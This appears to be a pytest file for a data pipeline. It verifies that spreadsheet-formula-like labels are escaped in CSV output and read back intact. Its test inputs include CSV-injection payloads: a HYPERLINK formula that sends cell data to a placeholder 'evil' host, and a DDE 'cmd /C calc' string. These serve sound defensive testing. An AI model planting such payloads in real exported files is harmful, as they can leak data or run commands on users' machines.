"""A name is no formula in a spreadsheet, a number stays one, and both are read back as such."""

from pathlib import Path

import pandas as pd
import pytest

from pipeline import evaluate
from pipeline.core.paths import CHECKS
from pipeline.evaluation.answered import read_answers
from pipeline.pages.tables import table
from pipeline.tables.cells import as_named, as_text
from pipeline.tables.manifest import write_manifest

NAMES = ['=HYPERLINK("http://evil/"&A1)', "-2+3+cmd|' /C calc'!A0", "+x", "@SUM(A1)", "\t=1", "＝1"]
QUOTED = ["'=x", "''=x"]
PLAIN = ["-0.5", "+1", "-1e-05", ".5", "1.", "brick", "'brick'", "a=b", "", "data/raw/=x.png"]


@pytest.mark.parametrize("name", NAMES + QUOTED)
def test_a_formula_becomes_a_text_and_is_read_back(name):
    assert as_text(name) == f"'{name}"
    assert as_named(as_text(name)) == name


@pytest.mark.parametrize("name", PLAIN)
def test_numbers_and_other_names_stay_as_they_are(name):
    assert as_named(name) == as_text(name) == name


def test_tables_of_stages_hold_no_formula_and_the_gate_and_the_report_read_the_names(
    tmp_path, monkeypatch
):
    monkeypatch.chdir(tmp_path)
    names = [*NAMES[:4], "-1", "brick"]
    answers = pd.DataFrame(
        {
            "path": [f"data/raw/{number}" for number in range(6)],
            "label": names,
            "predicted": names[::-1],
            "correct": [False] * 6,
            "probability": [0.5, 0.25, -0.125, 0.75, 1.0, 0.0],
        }
    )
    file = CHECKS / "answers.csv"
    evaluate._write(file, answers)
    cells = pd.read_csv(file, dtype=str).to_numpy().ravel()
    assert [cell for cell in cells if cell[0] in "=+-@"] == ["-1", "-0.125", "-1"]
    read = table(file)
    pd.testing.assert_frame_equal(read, answers, check_dtype=False)
    manifest = answers[["path", "label"]].assign(
        digest=[f"{i:064x}" for i in range(6)], split="test", group=""
    )
    write_manifest(manifest, "image", Path("manifest.parquet"))
    compared = read_answers(file, Path("manifest.parquet"))
    assert compared is not None
    assert compared["label"].tolist() == names
    assert compared["predicted"].tolist() == names[::-1]
